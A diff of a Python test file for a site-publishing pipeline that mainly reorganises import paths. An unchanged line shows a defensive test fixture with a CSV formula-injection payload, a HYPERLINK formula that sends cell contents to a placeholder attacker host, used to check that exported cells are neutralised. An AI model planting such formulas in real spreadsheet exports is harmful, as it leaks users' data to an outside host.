@@ -10,10 +10,10 @@ import re
 from pathlib import Path
 
 import pytest
-
 from site_fixture import build_demo_site
-from pipeline.venue_contract import VENUES
-from transforms.exports import FORMULA_STARTS, NUMBER, literal_patterns, neutralise
+
+from pages.csv_cells import FORMULA_STARTS, NUMBER, literal_patterns, neutralise
+from pipeline.contracts.venues import VENUES
 
 
 @pytest.fixture(scope="module")
@@ -94,8 +94,9 @@ MALICIOUS = {"nom": '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
 
 def test_formula_cells_are_neutralised_in_every_csv_download(data_dir):
     from conftest import REFERENCE_RUN
+
     from pipeline.ingest import process_file
-    from pipeline.publish import publish
+    from publish.site import publish
 
     venue = {"id": "lieu-formules", "pivot": "21910477700019", "commune": "Palaiseau",
              "code_postal": "91120", "code_insee": "91477", "latitude": "48.71",
@@ -149,7 +150,7 @@ def test_indexes_404_and_fingerprinted_assets(site):
 def test_partner_guide_and_templates_come_from_the_contracts(site):
     from openpyxl import load_workbook
 
-    from pipeline.contracts import CONTRACTS
+    from pipeline.contracts.datasets import CONTRACTS
 
     guide = read(site, "partenaires/index.html")
     for contract in CONTRACTS.values():
@@ -165,10 +166,10 @@ def test_partner_guide_and_templates_come_from_the_contracts(site):
 
 def test_templates_are_accepted_as_they_are(data_dir):
     """The example row of each template passes its own contract (and so the guide is right)."""
-    from pipeline.contracts import CONTRACTS
-    from pipeline.reading import read_partner_file
-    from pipeline.templates import template_csv
-    from pipeline.validation import validate
+    from pipeline.check.validation import validate
+    from pipeline.contracts.datasets import CONTRACTS
+    from pipeline.contracts.templates import template_csv
+    from pipeline.read.reading import read_partner_file
 
     for contract in CONTRACTS.values():
         path = data_dir / f"{contract.dataset}.csv"
@@ -209,8 +210,9 @@ def test_workshop_page_and_printable_poster(site):
 
 def test_workshops_whose_ids_differ_only_in_case_or_punctuation_get_their_own_pages(data_dir):
     from conftest import REFERENCE_RUN
+
     from pipeline.ingest import process_file
-    from pipeline.publish import publish
+    from publish.site import publish
 
     header = ("identifiant_seance;commune;lieu;adresse;date;heure_debut;duree_minutes;"
               "thematique;public;places;inscrits;presents;statut;inscription\n")
